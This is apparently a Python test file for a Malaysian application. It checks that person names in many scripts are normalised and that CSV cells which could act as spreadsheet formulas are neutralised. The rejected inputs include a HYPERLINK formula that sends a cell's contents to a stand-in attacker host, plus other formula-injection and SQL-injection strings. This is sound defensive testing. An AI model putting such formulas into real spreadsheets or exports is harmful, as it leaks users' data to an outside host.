"""Names of people (any script, the punctuation of Malaysian names) and CSV cells that cannot be formulas."""

import csv
import io
import re
from pathlib import Path

import pytest

from core.csvexport import csv_text, safe_cell
from core.errors import ValidationError
from core.names import normalize_person_name

ROOT = Path(__file__).resolve().parent.parent.parent


@pytest.mark.parametrize(("typed", "kept"), [
    ("Siti Aminah binti Abu", "Siti Aminah binti Abu"),
    ("MUTHU A/L RAMASAMY", "MUTHU A/L RAMASAMY"),
    ("KAVITHA A/P MURUGAN", "KAVITHA A/P MURUGAN"),
    ("LIM AH KOW @ LIM KOK WAI", "LIM AH KOW @ LIM KOK WAI"),
    ("NUR'AIN BINTI ZAKARIA", "NUR'AIN BINTI ZAKARIA"),
    ("Anne D’Cruz", "Anne D’Cruz"),
    ("NG SIEW-LING", "NG SIEW-LING"),
    ("MOHD. ALI B. HASSAN", "MOHD. ALI B. HASSAN"),
    ("  Tan   Wei  Ming ", "Tan Wei Ming"),
    ("\tSITI\r\n", "SITI"),  # tabs and line breaks are spaces, trimmed
    ("林志明", "林志明"),
    ("முத்து ராமசாமி", "முத்து ராமசாமி"),  # Tamil vowel signs are combining marks
    ("محمد بن عبدالله", "محمد بن عبدالله"),  # Jawi
    ("JOSE\u0301 RIZAL", "JOSÉ RIZAL"),  # decomposed accent composed (NFC)
    ("A" * 150, "A" * 150),
])
def test_names_of_every_community_are_accepted(typed, kept):
    assert normalize_person_name(typed) == kept


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "+60123456789", "-SITI", "@SUM(A1:A9)",
    "'SITI", "SITI 2", "SITI <b>", "SITI; DROP TABLE", "SITI (ALI)", "SITI, ALI", "ALI\u200bBABA", "", "   ",
    "A" * 151,
])
def test_anything_else_is_refused(typed):
    with pytest.raises(ValidationError):
        normalize_person_name(typed)


@pytest.mark.parametrize(("cell", "written"), [
    ("=HYPERLINK(\"https://evil.example\")", "'=HYPERLINK(\"https://evil.example\")"),
    ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("SITI AMINAH", "SITI AMINAH"), ("A=1", "A=1"), ("", ""), (5, 5), (-5, -5),
])
def test_cells_that_would_be_formulas_are_written_as_text(cell, written):
    assert safe_cell(cell) == written


def test_a_csv_document_has_a_bom_and_only_safe_cells():
    text = csv_text(["Name", "=Header"], [["=1+1", 3], ["OK", "-2"]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows == [["Name", "'=Header"], ["'=1+1", "3"], ["OK", "'-2"]]


def test_no_other_module_writes_csv():
    """core.csvexport is the one place CSV is written, so every export is neutralised."""
    sources = [path for folder in ("core", "webapp") for path in (ROOT / folder).rglob("*.py")]
    assert len(sources) > 20
    writers = [path.relative_to(ROOT).as_posix() for path in sources
               if re.search(r"csv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))]
    assert writers == ["core/csvexport.py"]
